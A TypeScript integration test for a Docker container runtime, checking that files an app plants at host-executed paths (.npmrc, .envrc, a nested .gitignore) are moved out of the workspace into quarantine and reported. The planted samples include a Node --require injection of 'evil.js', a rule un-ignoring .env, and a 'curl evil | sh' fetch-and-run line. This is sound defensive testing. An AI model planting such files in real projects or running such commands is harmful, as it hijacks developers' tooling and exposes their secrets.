/**
 * The tripwire on the real engine: a host-executed path absent at deploy (so not under a read-only mount) that the
 * app creates through its read-write workspace mount is moved out of the workspace and reported.
 */
import * as assert from 'node:assert/strict';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import * as path from 'node:path';
import type { ContainerSession } from '../../../src/core/runtime/containerRuntime';
import { DockerRuntime, workspaceIdFor } from '../../../src/core/runtime/dockerRuntime';
import { assertNoLeftovers, TEST_SETTINGS, watch, Workspaces } from './runtimeHarness';

const PLANTER = `import os, sys, time
def plant(p, text):
    os.makedirs(os.path.dirname(p) or ".", exist_ok=True)
    with open(p, "w") as f:
        f.write(text)
    print("PLANTED", p, flush=True)
plant(".npmrc", "node-options=--require=/app/evil.js\\n")
plant("config/.gitignore", "!.env\\n")
plant("notes.txt", "the app's own file\\n")
if os.path.exists("stay.txt"):
    print("serving", flush=True)
    time.sleep(3)
    plant(".envrc", "curl evil | sh\\n")
    time.sleep(120)
sys.exit(3)
`;

describe('planted host-executed files (real engine)', function () {
  this.timeout(180_000);
  const runtime = new DockerRuntime();
  const workspaces = new Workspaces();
  const sessions: ContainerSession[] = [];
  const moved: string[] = [];

  after(async () => {
    for (const s of sessions) await s.stop().catch(() => undefined);
    await workspaces.cleanup();
    for (const m of moved) rmSync(m, { force: true });
    await assertNoLeftovers();
  });

  const start = async (files: Record<string, string>) => {
    const dir = workspaces.make(files);
    const image = await runtime.buildImage(dir, TEST_SETTINGS);
    const session = await runtime.start(image, { sourceDir: dir, role: 'main', workspaceId: workspaceIdFor(dir), settings: TEST_SETTINGS });
    sessions.push(session);
    return { dir, session, w: watch(session) };
  };
  const quarantined = (lines: { text: string }[], rel: string) => {
    const line = lines.find((l) => l.text.startsWith(`the app created ${rel},`));
    const to = line && /to (\S+)\. If you made it/.exec(line.text)?.[1];
    if (to) moved.push(to);
    return to;
  };

  it('moves what the app created at host-executed paths out of the workspace when it exits, and says where', async () => {
    const { dir, w } = await start({ 'app.py': PLANTER });
    assert.equal((await w.nextExit()).exitCode, 3);
    assert.ok(w.lines.some((l) => l.text === 'PLANTED .npmrc'), w.lines.map((l) => l.text).join('\n'));
    assert.equal(existsSync(path.join(dir, '.npmrc')), false, '.npmrc is out of the workspace');
    assert.equal(existsSync(path.join(dir, 'config/.gitignore')), false, 'the nested .gitignore too');
    assert.equal(readFileSync(path.join(dir, 'notes.txt'), 'utf8'), "the app's own file\n", 'the app keeps its own files');
    const to = quarantined(w.lines, '.npmrc');
    assert.ok(to, w.lines.filter((l) => l.stream === 'system').map((l) => l.text).join('\n'));
    assert.equal(readFileSync(to!, 'utf8'), 'node-options=--require=/app/evil.js\n', 'kept in quarantine, not deleted');
    assert.ok(quarantined(w.lines, 'config/.gitignore'));
  });

  it('moves a top-level one while the app keeps running', async () => {
    const { dir, session, w } = await start({ 'app.py': PLANTER, 'stay.txt': '' });
    await w.waitForLine(/^PLANTED \.envrc$/);
    const end = Date.now() + 10_000;
    while (existsSync(path.join(dir, '.envrc')) && Date.now() < end) await new Promise((r) => setTimeout(r, 50));
    assert.equal(existsSync(path.join(dir, '.envrc')), false, 'moved without waiting for an exit');
    assert.ok(session.running, 'the app is still running');
    assert.ok(quarantined(w.lines, '.envrc') || (await w.waitForLine(/^the app created \.envrc,/)));
    assert.equal(existsSync(path.join(dir, '.npmrc')), false, 'the watch caught the first top-level one too');
  });
});
